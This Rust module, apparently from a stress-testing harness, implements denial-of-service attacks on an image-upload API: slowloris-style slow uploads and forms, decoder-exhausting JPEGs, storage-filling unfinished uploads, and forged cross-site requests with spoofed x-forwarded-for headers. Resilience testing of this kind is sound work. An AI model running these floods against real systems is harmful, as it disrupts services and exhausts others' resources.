//! Attacks on the reception, the processing and the storage of images.

use std::io::Write;
use std::time::Duration;

use anyhow::{Context, Result};
use serde_json::{Value, json};

use crate::client::Client;
use crate::client::image::{FORM_TYPE, PART, form, jpeg};
use crate::siege::attacks::{Assault, sign_up};
use crate::siege::window::Window;
use crate::siege::wire::{SlowConnections, connect, read_status, wave};
use crate::siege::{PUBLIC_URL, Target, head_of};

const MEDIA: &str = "/api/v1/media";
const SECOND: Duration = Duration::from_secs(1);

/// Many connections send the same announced files, most of it at once and the rest slowly.
pub(crate) fn slow_uploads<'a>(target: &'a Target<'a>) -> Result<Assault<'a>> {
    const FILES: usize = 12;
    const BYTES: usize = 5_241_856;
    const FAST: usize = 4_000_000;
    let (attacker, each) = (sign_up(target)?, if target.is_short { 4 } else { 10 });
    let files = (0..FILES).map(|_| announce(&attacker, BYTES)).collect::<Result<Vec<_>>>()?;
    Ok(Box::new(move |window| {
        let (mut connections, fast) = (SlowConnections::default(), vec![0; FAST]);
        for head in files.iter().flat_map(|file| std::iter::repeat_n(file, each)) {
            if !window.is_over() {
                connections.add(connect(target.server)?, &[&head[..], &fast].concat());
            }
        }
        while !window.is_over() {
            connections.feed(&[0; 1_200], window);
            window.pause(SECOND);
        }
        Ok(())
    }))
}

/// Announces a direct upload and returns the head of the request that sends the file.
fn announce(attacker: &Client, bytes: usize) -> Result<Vec<u8>> {
    let input = json!({"content_type": "image/png", "byte_size": bytes});
    head_of_upload(&attacker.post("/api/v1/media/uploads", &input)?.json()?, attacker, bytes)
}

fn head_of_upload(upload: &Value, attacker: &Client, bytes: usize) -> Result<Vec<u8>> {
    let path = upload["url"].as_str().and_then(|url| url.strip_prefix(PUBLIC_URL));
    let headers = upload["headers"].as_object().context("the upload has no headers")?;
    let headers = headers.iter().filter_map(|(name, value)| Some((&**name, value.as_str()?)));
    let length = bytes.to_string();
    let own = [("x-forwarded-for", &*attacker.address), ("content-length", &length), ("connection", "close")];
    let fields: Vec<(&str, &str)> = own.into_iter().chain(headers).collect();
    Ok(head_of("PUT", path.context("the upload has no URL of the site")?, &fields))
}

/// As many forms as the node accepts, each begun and then continued slowly.
pub(crate) fn slow_forms<'a>(target: &'a Target<'a>) -> Result<Assault<'a>> {
    const FORMS: usize = 64;
    let attacker = sign_up(target)?;
    Ok(Box::new(move |window| {
        let mut connections = SlowConnections::default();
        let begin = [&attacker.head("POST", MEDIA, FORM_TYPE, 20_000_000)[..], PART].concat();
        while !window.is_over() {
            while connections.len() < FORMS && !window.is_over() {
                connections.add(connect(target.server)?, &begin);
            }
            connections.feed(&[0; 1_100], window);
            window.pause(SECOND);
        }
        Ok(())
    }))
}

/// Parallel forms of the slowest images that are accepted, and of slower ones, from one account.
pub(crate) fn slow_decoders<'a>(target: &'a Target<'a>) -> Result<Assault<'a>> {
    const FORMS: usize = 40;
    const SIDE: u16 = 6_300;
    let attacker = sign_up(target)?;
    let request = |scans| attacker.bytes("POST", MEDIA, FORM_TYPE, &form(&jpeg(SIDE, scans), 10));
    let requests: Vec<Vec<u8>> = [request(20), request(64)].into_iter().cycle().take(FORMS).collect();
    Ok(Box::new(move |window| repeat(target, &requests, window, Duration::from_millis(100))))
}

fn repeat(target: &Target<'_>, requests: &[Vec<u8>], window: &Window, pause: Duration) -> Result<()> {
    while !window.is_over() {
        wave(target.server, requests, window)?;
        window.pause(pause);
    }
    Ok(())
}

/// Announces and sends files, but completes no upload.
pub(crate) fn storage<'a>(target: &'a Target<'a>) -> Result<Assault<'a>> {
    let (attacker, bytes) = (sign_up(target)?, if target.is_short { 1024 * 1024 } else { 5 * 1024 * 1024 });
    Ok(Box::new(move |window| {
        let (input, file) = (json!({"content_type": "image/png", "byte_size": bytes}), vec![0; bytes]);
        while !window.is_over() {
            let answer = attacker.post("/api/v1/media/uploads", &input)?;
            let Ok(upload) = answer.json() else {
                window.count(Some(answer.status));
                window.pause(Duration::from_millis(50));
                continue;
            };
            let mut stream = connect(target.server)?;
            let _ = stream.write_all(&[&head_of_upload(&upload, &attacker, bytes)?[..], &file].concat());
            window.count(read_status(&mut stream, window));
        }
        Ok(())
    }))
}

/// A page of another site sends uploads from the good user's browser, which adds no cookie to them.
pub(crate) fn cross_site<'a>(target: &'a Target<'a>) -> Result<Assault<'a>> {
    let body = form(&jpeg(256, 1), 1);
    let length = body.len().to_string();
    let fields = [
        ("x-forwarded-for", target.address),
        ("origin", "https://evil.example"),
        ("sec-fetch-site", "cross-site"),
        ("content-type", FORM_TYPE),
        ("content-length", &length),
        ("connection", "close"),
    ];
    let requests = vec![[head_of("POST", MEDIA, &fields), body].concat(); 40];
    Ok(Box::new(move |window| repeat(target, &requests, window, Duration::from_millis(200))))
}
